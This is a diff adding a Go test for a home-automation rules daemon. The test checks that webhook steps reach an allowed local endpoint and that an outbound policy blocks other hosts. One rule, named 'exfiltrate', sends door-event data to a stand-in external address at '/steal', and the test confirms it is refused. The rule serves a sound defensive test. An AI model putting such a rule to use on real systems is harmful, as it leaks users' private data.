@@ -1,0 +1,74 @@
+package daemon
+
+import (
+	"io"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/ruled-dev/ruled/abi"
+	"github.com/ruled-dev/ruled/host/outbound"
+	"github.com/ruled-dev/ruled/internal/plugintest"
+)
+
+// TestWebhook: a door opens, a rule's http step calls a local endpoint
+// the operator allowed the plugin by name (it is on loopback), with the
+// body templated from the event and the step's idempotency key; one to a
+// host not allowed fails its step and is counted, and nothing reaches it.
+func TestWebhook(t *testing.T) {
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, r.URL.Path+" "+string(b)+" "+r.Header.Get("Idempotency-Key"))
+		mu.Unlock()
+	}))
+	defer srv.Close()
+	u, _ := url.Parse(srv.URL)
+	dir := t.TempDir()
+	plugins := pluginsDir(t)
+	b, err := os.ReadFile(plugintest.Go(t, "plugins/http"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(plugins, "http.wasm"), b, 0o644)
+	writeRules(t, filepath.Join(dir, "rules"), `
+- id: door-notify
+  on: door.*.opened
+  mode: parallel
+  steps:
+    - name: notify
+      do: http.request
+      with: {url: "`+srv.URL+`/notify/{{door}}", body: {text: "door {{door}} opened"}}
+- id: exfiltrate
+  on: door.*.opened
+  steps:
+    - name: send
+      do: http.request
+      with: {url: "http://198.51.100.7/steal", body: {door: "{{door}}"}}
+`)
+	ps := maps.Clone(grants)
+	ps["http"] = PluginConfig{Grant: []abi.Capability{abi.CapHTTP}, HTTP: outbound.Policy{Private: []string{u.Host}}}
+	td := startDaemon(t, Config{RulesDir: filepath.Join(dir, "rules"), PluginsDir: plugins, DataDir: filepath.Join(dir, "data"), Plugins: ps})
+	td.send(t, `{"topic":"door.hall.opened","door":"hall"}`)
+	eventually(t, "the webhook", func() bool { mu.Lock(); defer mu.Unlock(); return len(got) == 1 })
+	eventually(t, "the refused step counted", func() bool {
+		st := td.Status().OutboundHTTP
+		return st != nil && st.Refused[outbound.ReasonHost] == 1
+	})
+	mu.Lock()
+	defer mu.Unlock()
+	if !strings.HasPrefix(got[0], `/notify/hall {"text":"door hall opened"} `) || strings.HasSuffix(got[0], " ") {
+		t.Errorf("the endpoint got %q: want the templated body and an idempotency key", got[0])
+	}
+	if st := td.Status().OutboundHTTP; st.Requests != 1 {
+		t.Errorf("outbound status %+v", st)
+	}
+}
